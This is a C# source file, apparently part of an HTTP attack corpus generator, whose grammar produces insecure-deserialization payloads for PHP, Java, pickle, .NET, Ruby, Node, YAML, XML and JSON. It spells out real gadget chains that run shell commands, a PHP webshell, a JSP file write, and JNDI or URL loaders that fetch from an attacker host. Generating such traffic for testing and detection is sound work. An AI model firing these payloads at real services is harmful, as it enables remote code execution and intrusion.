namespace Weir.Http.Corpus.Attacks.Other;

/// <summary>Objects in the formats of PHP, Java, Python, .NET, Ruby, Node, YAML and XML or JSON binders that act when they are read.</summary>
/// <remarks>CAPEC-586, CWE-502; the format of each language.</remarks>
internal static class SerializedObjects
{
    public const string Text = """"
        §serialised
        6× «phpobject»
        4× «javaobject»
        3× «pickle»
        3× «dotnet»
        2× «rubyobject»
        2× «nodeobject»
        2× «yamlobject»
        2× «xmlobject»
        2× «jsonobject»
        §phpclass
        4× «word→upper1»
        «GuzzleHttp\Psr7\FnStream¦GuzzleHttp\Cookie\FileCookieJar¦Monolog\Handler\SyslogUdpHandler¦Illuminate\Broadcasting\PendingBroadcast¦Symfony\Component\Cache\Adapter\ProxyAdapter¦Exception¦SplObjectStorage¦SoapClient¦SimpleXMLElement¦PDO¦__PHP_Incomplete_Class¦stdClass¦JDatabaseDriverMysqli¦SimplePie¦Swift_ByteStream_FileByteStream¦Requests_Utility_FilteredIterator¦PHPObjectInjection¦Logger¦FileManager¦CustomTemplate¦User¦PageModel¦Slim\Http\Response¦yii\db\BatchQueryResult¦think\process\pipes\Windows¦DateTime»
        §phpprop
        4× s:«propname→counted»;«phpval»
        s:«#5-30»:"␀*␀«propname»";«phpval»
        s:«#5-30»:"␀«word»␀«propname»";«phpval»
        §propname
        «username¦access_token¦isAdmin¦data¦inject¦file¦lock_file_path¦template_file_path¦events¦event¦default¦methods¦handler¦filename¦code¦cmd¦logFile¦admin¦role¦loggedin¦callback¦path¦_fn_close¦content¦«rand»»
        §phpval
        3× s:«rand→counted»;
        2× s:«phpevil→counted»;
        2× i:«#0-999»;
        2× b:«0¦1»;
        N;
        a:0:{}
        «phpobject»
        a:«#1-2»:{i:0;«phpval»}
        d:0.1;
        R:«#1-9»;
        §phpevil
        «phpinfo();¦system¦«phpsys»¦«shellcmd»¦«unixfile»¦<?php system($_GET['c']);?>¦«evilurl»¦/home/«word»/morale.txt»
        §phpobject
        6× O:«phpclass→counted»:«#1-3»:{«phpprop*1-3»}
        2× O:«phpclass→counted»:0:{}
        2× a:«#1-2»:{i:0;O:«phpclass→counted»:«#1-2»:{«phpprop*1-2»}i:1;i:0;}
        O:+«phpclass→length»:"«phpclass»":«#1-2»:{«phpprop*1-2»}
        C:«phpclass→counted»:«#1-40»:{«phpval»}
        a:1:{«phpprop»}
        a:2:{s:8:"username";b:1;s:8:"password";b:1;}
        «phpobject→url»
        «phpobject→b64»
        }__«rand»|O:«phpclass→counted»:«#1-2»:{«phpprop*1-2»}
        «word»|O:«phpclass→counted»:«#1-2»:{«phpprop*1-2»}
        phar://«word».«phar¦jpg»/«word»
        §b64run
        «b64chars*6-40»
        §b64chars
        4× «rand→b64clean»
        AA
        «letter→upper»
        §javaobject
        6× rO0AB«XNyABFqYXZhLnV0aWwuSGFzaE1hc¦XNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcl¦XNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1Z¦XNyAC5qYXZheC5tYW5hZ2VtZW50LkJhZEF0dHJpYnV0ZVZhbHVlRXhwRXhjZXB0aW9u¦XQAB¦X¦XVy¦XNy»«b64run»«¦=¦==»
        2× ac ed 00 05 73 72 «hexpair*4-20»
        aced0005737200«hexdigit*10-60»
        2× ¬í␀␅sr␀«javaclass»
        ¬í␀␅sr␀.«javaclass»xr␀«javaclass»
        H4sIAAAAAAAA«b64run»
        %ac%ed%00%05sr%00«javaclass»
        \xac\xed\x00\x05sr\x00«javaclass»
        JaCtAAV«b64run»
        yv66vgAAAD«b64run»
        \u00ac\u00ed\u0000\u0005«rand»
        §hexpair
        «hexdigit»«hexdigit»␠
        §javaclass
        «java.util.HashMap¦java.util.PriorityQueue¦sun.reflect.annotation.AnnotationInvocationHandler¦org.apache.commons.collections.functors.InvokerTransformer¦org.apache.commons.collections4.comparators.TransformingComparator¦javax.management.BadAttributeValueExpException¦com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl¦org.codehaus.groovy.runtime.ConvertedClosure¦java.net.URL¦java.lang.Runtime¦java.lang.ProcessBuilder¦com.mchange.v2.c3p0.WrapperConnectionPoolDataSource¦org.springframework.beans.factory.ObjectFactory¦java.rmi.server.UnicastRemoteObject¦org.hibernate.engine.spi.TypedValue¦com.sun.rowset.JdbcRowSetImpl¦java.security.SignedObject»
        §pickle
        3× c«os¦posix¦subprocess¦nt¦__builtin__»␤«system¦popen¦check_output¦eval¦exec»␤(S'«shellcmd»'␤tR.
        2× cposix␤system␤p«#0-9»␤(S"«shellcmd»"␤p«#0-9»␤tp«#0-9»␤Rp«#0-9»␤.
        (S'«shellcmd»'␤ios␤system␤.
        (dp0␤S'«word»'␤p1␤cos␤system␤(S'«shellcmd»'␤tRs.
        gAS«V¦R¦c»«b64run»«Y3Bvc2l4¦cG9zaXiUjAZzeXN0ZW2Uk5SMA¦jAVwb3NpeJSMBnN5c3RlbZSTlIw»«b64run»
        gASV«b64run»Lg==
        Y29z«b64run»
        Y3Bvc2l4CnN5c3RlbQ«b64run»
        \x80\x0«3¦4»c«posix¦os»\nsystem\nq\x00X\x«hexdigit*2»\x00\x00\x00«shellcmd»q\x01\x85q\x02Rq\x03.
        class «word»: def __reduce__(self): return (os.system,('«shellcmd»',))
        §dotnet
        4× AAEAAAD/////AQAAAAAAAAA«b64run»
        2× {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework«¦, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35»","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c «shellcmd→json»"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
        {"$type":"System.«Configuration.Install.AssemblyInstaller, System.Configuration.Install","Path":"\\\\«evilhost»\\«rand».dll¦Security.Principal.WindowsIdentity, mscorlib","System.Security.ClaimsIdentity.bootstrapContext":"AAEAAAD/////«b64run»¦IO.FileInfo, System.IO.FileSystem","fileName":"«rand».txt¦Diagnostics.Process, System","StartInfo":{"FileName":"cmd","Arguments":"/c «shellcmd→json»"}»"}
        <ObjectDataProvider «x:Key="«rand»" ¦»ObjectType="{x:Type «d¦Diag»:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters><s:String>cmd</s:String><s:String>/c «shellcmd»</s:String></ObjectDataProvider.MethodParameters></ObjectDataProvider>
        <ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:d="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider d:Key="«rand»"/></ResourceDictionary>
        /wEy«b64run»«AAEAAAD/////»«b64run»
        __VIEWSTATE=/wE«b64run»
        __VIEWSTATEGENERATOR=«hexdigit*8→upper»&__VIEWSTATE=/wEy«b64run»
        <root type="System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework],[System.Windows.Data.ObjectDataProvider, PresentationFramework]]">
        §rubyobject
        BAh«b64run»
        \x04\x08«o:¦[\b¦{\a¦I"»«Gem::Installer¦Gem::Requirement¦Gem::SpecFetcher¦Gem::Package::TarReader¦Net::BufferedIO¦ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy»«rand»
        --- !ruby/«object:Gem::Installer¦object:Gem::SpecFetcher¦object:Gem::Requirement¦hash:ActionDispatch::Routing::RouteSet::NamedRouteCollection¦object:ERB¦object:OpenStruct¦object:UnboundMethod¦object:Net::WriteAdapter»␤«word»: «`«shellcmd»`¦«rand»»
        - !ruby/object:Gem::«Package::TarReader¦SpecFetcher¦Installer»␤  «i¦io»: x
        {"^o":"«Gem::Requirement¦ERB¦Kernel¦Proc»","«word»":"«shellcmd→json»"}
        §nodeobject
        4× {"«word»":"_$$ND_FUNC$$_function«¦ »(){«nodeexec→json»}()"}
        _$$ND_FUNC$$_function(){«nodeexec»}()
        {"__js_function":"function(){«nodeexec→json»}()"}
        {"toString":"_$$ND_FUNC$$_function(){«nodeexec→json»}"}
        !!js/function 'function(){«nodeexec»}()'
        "toString": !<tag:yaml.org,2002:js/function> 'function(){«nodeexec»}()'
        §nodeexec
        require('child_process').«exec¦execSync»('«shellcmd»'«, function(error, stdout, stderr) { console.log(stdout) }¦»)«;¦»
        process.mainModule.require('child_process').execSync('«shellcmd»')
        §yamlobject
        3× !!python/object/«apply¦new»:«os.system¦subprocess.Popen¦subprocess.check_output¦os.popen¦eval»«␤- "«shellcmd»"¦ ["«shellcmd»"]¦␤args: ["«shellcmd»"]¦␤- - «word»␤  - -la»
        2× !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["«evilurl»"]]]]
        !!com.sun.rowset.JdbcRowSetImpl␤ dataSourceName: «ldap¦rmi»://«evilhost»:«port»/«rand»␤ autoCommit: true
        !!python/«name¦module¦object»:«os.system¦subprocess¦«word».«word»»«¦ []»
        !!org.«springframework.context.support.ClassPathXmlApplicationContext¦apache.xbean.propertyeditor.JndiConverter» ["«evilurl»"]
        !!«rand».«rand» ["«evilurl»"]
        §xmlobject
        2× <«sorted-set¦map¦java.util.PriorityQueue¦linked-hash-set¦tree-map»«¦ serialization='custom'»><«dynamic-proxy¦string»>«¦<interface>java.lang.Comparable</interface>»<handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>«shellcmd»</string></command></target><action>start</action></handler>
        <java«¦ version="1.«4¦8».0"» class="java.beans.XMLDecoder"><«object¦void» class="java.lang.ProcessBuilder"><array class="java.lang.String" length="«#1-3»"><void index="0"><string>«shellcmd»</string></void></array><void method="start"/></object></java>
        <void class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>«shellcmd»</string></void></void>
        <java><object class="java.io.PrintWriter"><string>servers/AdminServer/tmp/«rand».jsp</string><void method="println"><string><![CDATA[«jspcode»]]></string></void></object></java>
        <map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">«¦<dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource">»
        <value><ex:serializable xmlns:ex="http://ws.apache.org/xmlrpc/namespaces/extensions">rO0AB«b64run»</ex:serializable></value>
        <beans xmlns="http://www.springframework.org/schema/beans"><bean id="pb" class="java.lang.ProcessBuilder" init-method="start"><constructor-arg><list><value>«sh¦bash¦cmd»</value><value>-c</value><value>«shellcmd»</value></list></constructor-arg></bean></beans>
        §jsonobject
        4× {«¦"«letter»":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"«letter»":{»"@type":"«fastclass»","dataSourceName":"«ldap¦rmi»://«evilhost»«¦:«port»»/«rand»","autoCommit":true}
        {"@type":"«fastclass»"«¦,"«val¦url¦_bytecodes¦host¦JNDI»":"««evilhost»¦«evilurl»¦yv66vgAAADQ«b64run»»"»}
        ["«com.sun.rowset.JdbcRowSetImpl¦ch.qos.logback.core.db.JNDIConnectionSource¦org.springframework.context.support.ClassPathXmlApplicationContext¦com.mchange.v2.c3p0.JndiRefForwardingDataSource¦ch.qos.logback.core.db.DriverManagerConnectionSource»",{"«dataSourceName¦jndiName¦jndiLocation¦url»":"«ldap://«evilhost»/«rand»¦jdbc:h2:mem:;INIT=RUNSCRIPT FROM '«evilurl»'»"}]
        {"@class":"«javaclass»","«word»":"«rand»"}
        {"rand1":{"@type":"java.net.«Inet4Address¦InetSocketAddress¦URL»","val":"«oasthost»"}}
        {"class":"«javaclass»","«word»":"«shellcmd→json»"}
        §fastclass
        «com.sun.rowset.JdbcRowSetImpl¦com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl¦org.apache.tomcat.dbcp.dbcp2.BasicDataSource¦java.lang.AutoCloseable¦org.apache.ibatis.datasource.jndi.JndiDataSourceFactory¦java.net.Inet4Address¦Lcom.sun.rowset.JdbcRowSetImpl;¦[com.sun.rowset.JdbcRowSetImpl¦LLcom.sun.rowset.JdbcRowSetImpl;;¦oracle.jdbc.connector.OracleManagedConnectionFactory¦org.apache.commons.configuration.JNDIConfiguration¦com.zaxxer.hikari.HikariConfig¦java.lang.Exception»
        """";
}
